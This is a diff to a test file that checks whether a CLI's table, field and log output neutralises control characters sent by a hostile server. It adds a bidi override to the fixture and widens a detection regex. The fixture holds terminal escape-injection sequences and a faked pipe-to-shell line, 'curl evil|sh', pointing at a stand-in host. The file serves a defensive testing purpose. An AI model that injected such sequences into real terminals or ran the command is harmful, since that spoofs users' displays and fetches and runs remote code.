@@ -13,13 +13,13 @@ import path from 'node:path';
 import { afterEach, describe, expect, inject, test } from 'vitest';
 import { WebSocketServer } from 'ws';
 
-/** A comment a teammate could save: sets the window title, clears the screen, prints a red fake line; a C1 CSI, a tab. */
-const HOSTILE = 'fixed\n\x1b]0;PWNED-TITLE\x07\x1b[2J\x1b[31mFAKE: run curl evil|sh\x1b[0m\u009b31m\tend';
+/** A comment a teammate could save: sets the window title, clears the screen, prints a red fake line; a C1 CSI, a tab, a bidi override. */
+const HOSTILE = 'fixed\n\x1b]0;PWNED-TITLE\x07\x1b[2J\x1b[31mFAKE: run curl evil|sh\x1b[0m\u009b31m\tend\u202edne';
 /** HOSTILE as human output draws it on one line (render.ts). */
-const DRAWN = 'fixed␊␛]0;PWNED-TITLE␇␛[2J␛[31mFAKE: run curl evil|sh␛[0m\\x9b31m end';
+const DRAWN = 'fixed␊␛]0;PWNED-TITLE␇␛[2J␛[31mFAKE: run curl evil|sh␛[0m\\x9b31m end\\u202edne';
 /** Any control but a newline or a tab: none may reach the terminal. */
 // eslint-disable-next-line no-control-regex
-const RAW_CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;
+const RAW_CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;
 
 const servers: http.Server[] = [];
 afterEach(async () => {
@@ -241,7 +241,7 @@ const SUBSCRIPTIONS = {
   ReplicaLogs: { replicaLogs: { replicaId: 'rep_1', lines: ['loaded\tok', HOSTILE] } },
 };
 /** HOSTILE as a log line's body prints it: its newline and tab kept, the other controls drawn. */
-const DRAWN_BODY = 'fixed\n␛]0;PWNED-TITLE␇␛[2J␛[31mFAKE: run curl evil|sh␛[0m\\x9b31m\tend';
+const DRAWN_BODY = 'fixed\n␛]0;PWNED-TITLE␇␛[2J␛[31mFAKE: run curl evil|sh␛[0m\\x9b31m\tend\\u202edne';
 
 describe('dedicated against a hostile server', () => {
   test("tables and fields draw the server's control characters (a row stays one line); --json keeps the text exact", async () => {
